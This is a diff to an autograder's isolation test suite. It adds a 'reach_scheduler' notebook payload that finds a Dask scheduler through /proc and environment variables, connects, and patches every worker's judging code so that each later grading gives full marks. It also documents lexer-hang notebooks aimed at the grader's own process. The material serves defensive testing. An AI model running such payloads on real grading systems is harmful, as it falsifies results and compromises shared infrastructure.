@@ -39,9 +39,24 @@ class                 what the notebook does
                       it (and into ``{marker}``), and leaves a process that writes it again later
 ``ignore_interrupt``  (:data:`COSTLY`) makes every later cell hang with SIGINT ignored, and its own
                       cell hang when it is replayed after a kill
+``reach_scheduler``   reads a Dask scheduler's address from ``/proc`` and the environment,
+                      connects, and patches every worker's judging through ``Client.run``
 ``kill_runner``       (:data:`COSTLY`) kills and stops the supervising runner, by its parent's pid,
                       by name, ``kill(-1)`` and ``kill(0)``
 ====================  ==========================================================================
+
+:data:`NOTEBOOK_ATTACKS` change the notebook itself rather than its code: ``lexer_fence`` (a
+markdown answer with fenced blocks in :data:`SLOW_LEXERS`, whose pygments lexers never return or
+take super-linear time) and ``lexer_metadata`` (the notebook's language and a cell's
+``magics_language`` set to such a lexer), aimed at the grader's own process, which renders the
+notebook for nbgrader, the feedback and formgrader.
+
+Attacks on the trusted side that no notebook carries are kept as tests beside the code they
+attack: the channel's envelope flooded with nested lists
+(``tests/test_sandbox_isolation.py``), a ``timestamp.txt`` the student wrote
+(``tests/test_late_and_roster.py``), System V IPC left for the next run in container mode
+(``tests/test_sandbox_isolation.py``), a Dask worker in container mode without a network fence
+and a client without the cluster's certificate (``tests/test_cluster_grading.py``).
 
 ``{token}``, ``{marker}`` and ``{port}`` are filled in by the test (a unique process name, a
 file outside the sandbox, the port of a server on the host).
@@ -488,6 +503,39 @@ if os.fork() == 0:
         time.sleep(0.5)
         _write_everywhere()
     os._exit(0)
+""",
+    "reach_scheduler": r"""
+# Graded by a Dask worker? Find the scheduler's address (the worker's command line, Dask's
+# variables), connect to it, and patch every worker's judging through Client.run.
+import os, re, socket
+_addresses = {os.environ.get("DASK_SCHEDULER_ADDRESS", "")}
+for _entry in os.listdir("/proc"):
+    if _entry.isdigit():
+        try:
+            _cmd = open(f"/proc/{_entry}/cmdline", "rb").read().replace(b"\0", b" ").decode()
+        except (OSError, UnicodeDecodeError):
+            continue
+        _addresses.update(re.findall(r"(?:tcp|tls)://[\w.-]+:\d+", _cmd))
+def _full_marks(dask_worker=None):  # every later grading on that worker: full marks
+    from autograder.core import assessor
+    from autograder.core.results import PartScore
+    judge = assessor.Assessor._judge
+    def _judge(self, result, *args):
+        judge(self, result, *args)
+        for key, part in result.parts.items():
+            result.parts[key] = PartScore(part.max, part.max, part.feedback)
+    assessor.Assessor._judge = _judge
+    return "patched"
+for _address in sorted(a for a in _addresses if a):
+    _host, _port = _address.split("://")[1].rsplit(":", 1)
+    try:
+        socket.create_connection((_host, int(_port)), timeout=3).close()
+        print("reached", _address)
+        from distributed import Client
+        with Client(_address, timeout=5) as _client:
+            print("patched", _client.run(_full_marks))
+    except Exception as error:
+        print("refused", _address, type(error).__name__, str(error)[:200])
 """,
 }
 
